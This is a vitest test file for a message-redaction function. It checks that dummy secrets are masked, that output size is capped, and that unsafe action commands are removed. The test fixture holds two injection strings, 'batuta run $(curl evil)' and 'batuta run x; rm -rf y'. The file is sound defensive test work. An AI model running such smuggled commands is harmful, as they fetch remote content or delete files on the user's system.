import { expect, test } from 'vitest';
import { toInstant } from '../../../shared/core/time.ts';
import { type Message, plainText } from '../../../shared/notify/message.ts';
import { redactMessage } from '../../../shared/notify/redact-message.ts';

const message: Message = {
  kind: 'run-failed',
  severity: 'error',
  title: 'report failed: token=hunter2',
  subject: 'report',
  news: 'failed',
  cause: 'cannot reach postgres://shop:hunter2@db/shop',
  hint: 'try --password hunter2 again',
  facts: [
    { label: 'Parameters', value: 'database=shop, api_key=hunter2' },
    { label: 'db_password', value: 'hunter2' },
    { label: 'Image', value: 'shop/api:1.5.0 (sha256:0a1b2c3d4e5f)' },
  ],
  logTails: [{ label: 'this run of report', lines: ['ok', 'Authorization: Bearer hunter2hunter2'] }],
  actions: [
    { label: 'Run it again', command: 'batuta retry r-abcdefghijklmnopqrstuvwx' },
    { label: 'Own it', command: 'batuta run $(curl evil)' },
    { label: 'Own it', command: 'batuta run x; rm -rf y' },
  ],
  at: toInstant('2026-11-20T09:00:00Z'),
};

test('no text of a message tells a secret, and the rest stays', () => {
  const text = plainText(redactMessage(message));
  expect(text).not.toContain('hunter2');
  expect(text.match(/\[redacted\]/g)).toHaveLength(6);
  expect(text).toContain('Image: shop/api:1.5.0 (sha256:0a1b2c3d4e5f)');
  expect(text).toContain('database=shop');
});

test('no command is told that a shell would take for more than words', () => {
  const { actions } = redactMessage(message);
  expect(actions).toEqual([{ label: 'Run it again', command: 'batuta retry r-abcdefghijklmnopqrstuvwx' }]);
});

test('labels and commands of actions and links tell no secret either', () => {
  const { actions, links } = redactMessage({
    ...message,
    actions: [
      { label: 'with password=hunter2', command: 'batuta retry r-abcdefghijklmnopqrstuvwx' },
      { label: 'Run it again', command: 'batuta run report token=hunter2' },
    ],
    links: [{ label: 'log of password=hunter2', url: 'https://console.example/log' }],
  });
  expect(actions).toEqual([{ label: 'with password=[redacted]', command: 'batuta retry r-abcdefghijklmnopqrstuvwx' }]);
  expect(links).toEqual([{ label: 'log of password=[redacted]', url: 'https://console.example/log' }]);
});

test('a message is bounded, whatever its record holds', () => {
  const long = 'x y '.repeat(250_000);
  const facts = Array.from({ length: 500 }, () => ({ label: long, value: long }));
  const logTails = Array.from({ length: 50 }, () => ({ label: long, lines: Array(500).fill(long) }));
  const told = redactMessage({ ...message, title: long, cause: long, hint: long, facts, logTails });
  expect(JSON.stringify(told).length).toBeLessThan(150_000);
  expect(told.logTails?.[0]?.lines).toHaveLength(20);
});
